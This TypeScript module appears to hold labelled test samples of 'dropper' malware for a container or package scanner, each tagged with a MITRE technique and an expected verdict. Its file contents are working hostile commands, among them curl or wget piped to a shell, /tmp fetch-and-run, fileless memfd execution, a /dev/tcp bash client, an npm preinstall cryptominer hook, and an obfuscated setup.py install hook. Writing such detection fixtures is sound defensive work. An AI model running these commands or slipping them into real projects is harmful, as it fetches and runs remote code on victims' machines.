import { base64 } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('dropper', [
  {
    id: 'dropper-curl-sh',
    level: 'easy',
    technique: 'curl to a shell from a bare address (Kinsing, 8220; T1105).',
    files: {
      'start.sh': '#!/bin/sh\n(curl -fsSL http://192.0.2.66/d.sh || wget -qO- http://192.0.2.66/d.sh) | sh\n',
    },
    config: { Cmd: ['/start.sh'] },
    expect: 'malicious',
    where: 'start.sh',
  },
  {
    id: 'dropper-tmp-chmod',
    level: 'easy',
    technique: 'Fetched to /tmp, made executable, run, deleted (T1105, T1070.004).',
    files: {
      'usr/local/bin/docker-entrypoint.sh': `#!/bin/sh
cd /tmp || cd /var/run || cd /dev/shm
wget http://198.51.100.14:8080/$(uname -m) -O .x; chmod 777 .x; ./.x docker; rm -rf .x
exec "$@"
`,
    },
    config: { Entrypoint: ['/usr/local/bin/docker-entrypoint.sh'], Cmd: ['python3'] },
    expect: 'malicious',
    where: 'usr/local/bin/docker-entrypoint.sh',
  },
  {
    id: 'dropper-tor',
    level: 'ordinary',
    technique: 'Downloads through a Tor gateway and a list of fallbacks (Sysrv, WatchBog; T1090.003).',
    files: {
      'root/.profile': `t=abcdefabcdefabcd
for h in tor2web.example.invalid onion.example.invalid; do
  f=/dev/shm/.$RANDOM
  curl -x socks5h://127.0.0.1:9050 -m60 -fsSLk $t.$h/src/$(whoami).$(hostname).sh -o $f && bash $f && break
done; rm -f $f
`,
    },
    expect: 'malicious',
    where: 'root/.profile',
  },
  {
    id: 'dropper-python-exec',
    level: 'ordinary',
    technique: 'Python runs what a URL returns (T1059.006).',
    files: {
      'app/boot.py': `import urllib.request as u
exec(u.urlopen("https://cdn.example.invalid/stage2.txt").read().decode())
`,
    },
    config: { Cmd: ['python3', '/app/boot.py'] },
    expect: 'malicious',
    where: 'app/boot.py',
  },
  {
    id: 'dropper-memfd',
    level: 'hard',
    technique: 'The second stage is run from memory and never on disk (fileless, TeamTNT 2021; T1620).',
    files: {
      'srv/agent.py': `import ctypes, os, urllib.request
l = ctypes.CDLL(None)
fd = l.syscall(319, b"", 1)
os.write(fd, urllib.request.urlopen("http://203.0.113.40/a").read())
os.execve("/proc/self/fd/%d" % fd, ["[kthreadd]"], {})
`,
    },
    expect: 'malicious',
    where: 'srv/agent.py',
  },
  {
    id: 'dropper-bash-http',
    level: 'hard',
    technique: 'An HTTP client in pure bash, for images without curl (Kinsing __curl; Trend Micro 2020).',
    files: {
      'etc/rc.local': `#!/bin/bash
function __curl() {
  read proto server path <<<$(echo \${1//// })
  DOC=/\${path// //}; HOST=\${server//:*}; PORT=\${server//*:}
  exec 3<>/dev/tcp/$HOST/80
  echo -en "GET $DOC HTTP/1.0\\r\\nHost: $HOST\\r\\n\\r\\n" >&3
  (while read line; do [[ "$line" == $'\\r' ]] && break; done && cat) <&3
  exec 3>&-
}
__curl http://192.0.2.120/b > /tmp/.b && chmod +x /tmp/.b && /tmp/.b
`,
    },
    expect: 'malicious',
    where: 'etc/rc.local',
  },
  {
    id: 'dropper-node-postinstall',
    level: 'ordinary',
    technique:
      'A preinstall hook fetches a program for the platform (ua-parser-js, October 2021; T1195.002).',
    files: {
      'app/node_modules/ua-helper/package.json': JSON.stringify({
        name: 'ua-helper',
        version: '0.7.29',
        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
      }),
      'app/node_modules/ua-helper/preinstall.js': `const { exec } = require("child_process");
if (process.platform === "linux") exec("/bin/bash preinstall.sh");
`,
      'app/node_modules/ua-helper/preinstall.sh': `IP=$(curl -k https://geo.example.invalid/ip | grep 'RU\\|UA\\|BY')
if [ -z "$IP" ]; then
  curl http://203.0.113.159/download/jsextension -o jsextension
  chmod +x jsextension; ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 --cpu-max-threads-hint=50 --background
fi
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/ua-helper/preinstall.sh',
  },
  {
    id: 'dropper-setup-py',
    level: 'ordinary',
    technique:
      'A setup.py runs code at install under a name like a known package (colourama, 2018; T1195.002).',
    files: {
      'src/colourama-0.1/setup.py': `from setuptools import setup
from setuptools.command.install import install
import base64, os
class Post(install):
    def run(self):
        install.run(self)
        os.system(base64.b64decode("${base64('curl -s http://192.0.2.8/s.py | python3 -')}").decode())
setup(name="colourama", version="0.1", cmdclass={"install": Post})
`,
    },
    expect: 'malicious',
    where: 'src/colourama-0.1/setup.py',
    does: 'persistence',
  },
  {
    id: 'dropper-binary-strings',
    level: 'ordinary',
    technique:
      'An ELF that shells out to fetch and run the next stage for each processor (Mirai loaders; T1105).',
    files: {
      'usr/bin/gpu-agent': program([
        '/bin/busybox wget http://192.0.2.201/bins/%s.%s -O /tmp/.%s; chmod 777 /tmp/.%s; /tmp/.%s %s',
        'x86_64',
        'mips',
        'arm7',
        '/bin/busybox tftp -g -l %s -r %s %s',
      ]),
    },
    expect: 'malicious',
    where: 'usr/bin/gpu-agent',
  },
  {
    id: 'dropper-dns-txt',
    level: 'hard',
    technique: 'The command comes in a TXT record (T1071.004).',
    files: {
      'usr/bin/tune':
        "#!/bin/sh\ndig +short TXT cfg.example.invalid | tr -d '\" ' | base64 -d | gunzip | sh\n",
    },
    config: { Cmd: ['/usr/bin/tune'] },
    expect: 'malicious',
    where: 'usr/bin/tune',
    does: 'c2',
  },
  {
    id: 'dropper-deferred-git',
    level: 'hard',
    technique:
      'Clean today: the entrypoint pulls a branch and runs its installer, each time (content decided after the scan).',
    files: {
      'entry.sh': `#!/bin/sh
git clone --depth 1 https://git.example.invalid/team/worker.git /w 2>/dev/null || git -C /w pull
pip install -q -r /w/requirements.txt
sh /w/install.sh && exec python3 /w/main.py
`,
    },
    config: { Entrypoint: ['/entry.sh'] },
    expect: 'suspicious',
    where: 'entry.sh',
  },
]);
